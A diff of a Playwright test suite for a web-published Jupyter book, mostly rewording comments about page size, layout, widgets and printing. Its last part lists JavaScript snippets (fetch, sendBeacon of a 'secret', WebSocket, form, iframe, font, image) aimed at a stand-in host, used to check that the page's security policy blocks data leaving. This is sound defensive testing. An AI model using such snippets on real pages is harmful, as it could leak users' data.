@@ -21,7 +21,7 @@ PAGES = [TOC["root"], *(entry["file"] for part in TOC["parts"] for entry in part
 PAGES = [f"{page}.html" for page in PAGES]
 CHAPTERS = [page for page in PAGES if (ROOT / page).with_suffix(".ipynb").exists()]
 
-# Of a page with everything that it loads: as it is, and gzipped where a server would.
+# The size of a page with everything that it loads: uncompressed, and gzipped as a server would send it.
 MAX_BYTES, MAX_GZIPPED = 3_000_000, 1_000_000
 MAX_SHIFT = 0.05  # layout shift (CLS) while a page starts
 SCREENS = {"phone": (360, 740), "tablet": (768, 1024), "desktop": (1280, 900)}
@@ -32,7 +32,7 @@ VIEW = 'script[type="application/vnd.jupyter.widget-view+json"]'
 HOST = ".widget-host[data-widget]"
 ALREADY_COMPRESSED = (".png", ".woff", ".woff2")
 
-# Where a link may lead. Nothing is ever loaded from there.
+# Hosts to which links may lead. Nothing is ever loaded from them.
 HOSTS = {
     "aclanthology.org", "anywidget.dev", "arxiv.org", "colab.research.google.com", "creativecommons.org",
     "d2l.ai", "docs.pytorch.org", "doi.org", "github.com", "hastie.su.domains", "jalammar.github.io",
@@ -67,7 +67,7 @@ def visit(browser, roots):
         complain = lambda m: page.complaints.append(f"console: {m.text} {m.location}")  # noqa: E731
         page.on("console", lambda m: m.type == "error" and complain(m))
         page.goto(f"{roots[way]}/{page_name}", wait_until="load")
-        # Widgets and fonts come up after the page has loaded.
+        # Widgets and fonts appear after the page has loaded.
         # Not `wait_for_function`: where it has to wait, the page's security policy forbids it.
         expect(page.locator(HOST)).to_have_count(page.locator(VIEW).count())
         page.evaluate("() => document.fonts.ready.then(() => true)")
@@ -170,7 +170,7 @@ def test_icons_are_drawn(book, visit):
     assert "Font Awesome 6 Free" in {family.strip('"') for family in page.evaluate(loaded)}
 
 
-# What is wide (a table, an equation, code) scrolls in a box of its own; nothing sticks out of the page.
+# Wide content (a table, an equation, code) scrolls in its own box; nothing overflows the page.
 STICKING_OUT = """width => [...document.querySelectorAll('.bd-article *')].filter(element => {
     const box = e => e.getBoundingClientRect();
     const fits = e => box(e).left >= -1 && box(e).right <= width + 1;
@@ -191,7 +191,7 @@ def test_nothing_is_wider_than_a_phone(visit, reader, page_name):
         page.set_viewport_size({"width": width, "height": 740})
         assert page.evaluate("document.documentElement.scrollWidth") <= width
         assert page.evaluate(STICKING_OUT, width) == []
-    # The check sees what is wide, and what the page only hides.
+    # The check detects wide content, even if the page hides the overflow.
     for style in ("width: 500px", "width: 300px; margin-left: 200px"):
         section = page.locator("article section").first
         wide = f'<p style="{style}">wide</p>'
@@ -219,7 +219,7 @@ def test_page_content(book, visit, page_name):
     assert page.locator("mjx-merror, [data-mjx-error]").count() == 0
     assert page.locator(".math").count() == page.locator(".math:has(mjx-container)").count()
 
-    # No word of a diagram is cut off at its side; two pixels are the empty rim of a letter.
+    # No word is cut off at the edge of a diagram; two pixels are the empty margin of a letter.
     cut = """texts => texts.filter((text) => {
       const [own, all] = [text, text.closest("svg")].map((node) => node.getBoundingClientRect());
       return own.width && (own.left < all.left - 2 || own.right > all.right + 2);
@@ -257,11 +257,11 @@ def test_every_widget_comes_up(visit, page_name, way):
     assert not any(still.is_visible() for still in page.locator(".widget-still").all())
     for host in page.locator(".widget-host").all():
         assert host.bounding_box()["height"] > 30
-        # What is off the screen is neither laid out nor painted.
+        # Content off the screen is neither laid out nor painted.
         expect(host).to_have_css("content-visibility", "auto")
 
 
-# Of each model in a page: its module and style sheet, put together again as the notebook has them.
+# The module and style sheet of each model in a page, reassembled as the notebook stores them.
 MODELS = """() => {
     const script = document.querySelector('script[type="application/vnd.jupyter.widget-state+json"]');
     const { state, texts } = JSON.parse(script.textContent);
@@ -287,7 +287,7 @@ def test_what_widgets_share_is_stored_once(visit, page_name):
         assert sum("/* frame.css */\n" in text for text in texts) == 1
 
 
-# The browser's own sum of what moved without being asked to, from the first paint on.
+# The browser's own layout shift score, from the first paint on.
 SHIFTS = """() => {
     const observer = new PerformanceObserver(() => {});
     observer.observe({ type: "layout-shift", buffered: true });
@@ -349,7 +349,7 @@ def test_widgets_are_printed_and_figures_stand_in_for_them_without_scripts(visit
     hosts = page.locator(".widget-host").all()
     assert all(host.is_visible() for host in hosts)
     assert not any(still.is_visible() for still in page.locator(".widget-still").all())
-    # What a widget folds away stays folded on paper: nothing has been drawn there yet.
+    # Folded parts of a widget stay folded on paper, because nothing has been drawn in them yet.
     folded = page.locator(".widget-host details:not([open]) > :not(summary)")
     assert not any(part.is_visible() for part in folded.all())
     for host in hosts:
@@ -381,14 +381,14 @@ def test_chapter_opens_in_colab_and_an_issue_names_page_and_version(visit, page_
 
 FOREIGN = "https://elsewhere.invalid/"
 SEND = "() => { const node = document.createElement('%s'); %s; document.body.append(node); }"
-# What would leave the page or bring something in, and the rule of the policy that stops it.
+# Ways to send data out of the page or load something into it, and the policy rule that blocks each.
 WAYS_OUT = {
     "fetch": ("() => fetch(ADDRESS).catch(() => {})", "connect-src"),
     "beacon": ("() => navigator.sendBeacon(ADDRESS, 'secret')", "connect-src"),
     "socket": ("() => new WebSocket(ADDRESS.replace('https', 'wss'))", "connect-src"),
     "form": (SEND % ("form", "node.action = ADDRESS; setTimeout(() => node.submit())"), "form-action"),
     "frame": (SEND % ("iframe", "node.src = ADDRESS"), "frame-src"),
-    # No browser starts a foreign worker: a file beside the page is tried, which the policy refuses as well.
+    # No browser starts a worker from another site, so a file beside the page is tried; it is blocked too.
     "worker": ("() => new Worker('worker.js')", "worker-src"),
     "font": ("() => new FontFace('Foreign', `url(${ADDRESS})`).load().catch(() => {})", "font-src"),
     "image": ("() => { new Image().src = ADDRESS; }", "img-src"),
